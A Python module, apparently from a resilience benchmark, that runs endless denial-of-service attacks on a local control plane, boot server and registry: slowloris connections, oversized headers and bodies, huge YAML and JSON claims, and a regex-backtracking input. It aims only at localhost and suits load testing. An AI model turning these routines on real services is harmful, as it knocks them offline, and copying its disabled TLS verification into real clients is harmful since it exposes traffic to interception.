"""The attacks of `bench/attack.py`, each by one client that does not stop: `python bench/attacks.py NAME TARGETS`."""

import asyncio
import json
import ssl
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import asdict, dataclass

import aiohttp

SOURCE = "127.0.0.66"
"""The address of the attacker; honest clients have others."""
REVIEWS = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews"
CLAIMS = "/apis/metal.ironcore.dev/v1alpha1/namespaces/default/serverclaims"
TEXTS = "/apis/bench.example.org/v1/namespaces/default/texts"


@dataclass(frozen=True)
class Targets:
    """Where the control plane listens, and the attacker's tokens."""

    api: int
    boot: int
    registry: int
    tenant: str
    """Token of an account that may create claims and texts."""
    stranger: str
    """Token of an account without roles."""
    image: str = ""
    """Path of the image in the boot of the attacker's machine, with its token."""

    def text(self) -> str:
        return json.dumps(asdict(self))


async def half_open_tls(targets: Targets) -> None:
    """800 connections to the API that send nothing."""
    await _hold(targets.api, 800, b"")


async def half_open_requests(targets: Targets) -> None:
    """5,400 connections to the boot server with half a request."""
    await _hold(targets.boot, 5400, b"GET /ipxe HTTP/1.1\r\nHost: x\r\n")


async def unfinished_headers(targets: Targets) -> None:
    """400 connections to the boot server with 782 KiB of headers that do not end."""
    line = b"X-A: " + b"a" * 8000 + b"\r\n"
    await _hold(targets.boot, 400, b"GET /ipxe HTTP/1.1\r\nHost: x\r\n" + 100 * line)


async def missing_bodies(targets: Targets) -> None:
    """2,000 connections to the registry with a report that does not come."""
    await _hold(targets.registry, 2000, b"POST /register HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n")


async def large_yaml(targets: Targets) -> None:
    """A role-less account posts 3 MB and 256 KB of YAML, four requests at a time."""
    long, short = b"[" + b"{}," * 1_000_000 + b"{}]", b"a:\n" + b"- b: c\n" * 37_000
    await _post(targets, targets.stranger, REVIEWS, [long, short], "application/yaml")


async def many_causes(targets: Targets) -> None:
    """A tenant posts claims with 1.4 million and with 40,000 wrong tolerations."""
    head = (
        '{"apiVersion":"metal.ironcore.dev/v1alpha1","kind":"ServerClaim","metadata":{"name":"x"},"spec":{"power":"On",'
    )
    bodies = [f'{head}"tolerations":[{",".join("1" * count)}]}}}}'.encode() for count in (1_400_000, 40_000)]
    await _post(targets, targets.tenant, CLAIMS, bodies, "application/json")


async def backtracking(targets: Targets) -> None:
    """A tenant posts a text that makes `find` of a CEL rule backtrack in engines that do."""
    body = {"apiVersion": "bench.example.org/v1", "kind": "Text", "metadata": {"name": "x"}}
    body["spec"] = {"text": "a" * 27 + "!"}
    await _post(targets, targets.tenant, TEXTS, [json.dumps(body).encode()], "application/json")


async def image_streams(targets: Targets) -> None:
    """300 transfers of the image with the token of one boot, each read as slowly as the boot server permits."""
    sent = f"GET {targets.image} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
    await asyncio.gather(*(_one(targets.boot, sent, 0.0003 * number, slowly=True) for number in range(300)))


ATTACKS: dict[str, Callable[[Targets], Awaitable[None]]] = {
    attack.__name__.replace("_", "-"): attack
    for attack in (
        half_open_tls, half_open_requests, unfinished_headers, missing_bodies, large_yaml, many_causes, backtracking,
        image_streams,
    )
}  # fmt: skip


async def _hold(port: int, count: int, sent: bytes) -> None:
    """Keep so many connections, and make a new one for each that the server closes."""
    await asyncio.gather(*(_one(port, sent, 0.0003 * number) for number in range(count)))


async def _one(port: int, sent: bytes, after: float, *, slowly: bool = False) -> None:
    await asyncio.sleep(after)
    while True:
        with suppress(OSError):
            reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(SOURCE, 0))
            writer.write(sent)
            while await reader.read(1 << 16):
                if slowly:
                    await asyncio.sleep(0.5)
            writer.close()
        await asyncio.sleep(1.0)


async def _post(targets: Targets, token: str, path: str, bodies: list[bytes], media: str) -> None:
    tls = ssl.create_default_context()
    tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
    connector = aiohttp.TCPConnector(ssl=tls, local_addr=(SOURCE, 0))
    headers = {"Authorization": f"Bearer {token}", "Content-Type": media}
    async with aiohttp.ClientSession(f"https://127.0.0.1:{targets.api}", connector=connector, headers=headers) as http:

        async def again(body: bytes) -> None:
            while True:
                with suppress(aiohttp.ClientError, OSError):
                    async with http.post(path, data=body) as answer:
                        await answer.read()
                        print(path, answer.status, flush=True)
                await asyncio.sleep(0.01)

        await asyncio.gather(*(again(body) for body in bodies for _ in range(4 // len(bodies))))


if __name__ == "__main__":
    asyncio.run(ATTACKS[sys.argv[1]](Targets(**json.loads(sys.argv[2]))))  # type: ignore[arg-type]  # each is a coroutine
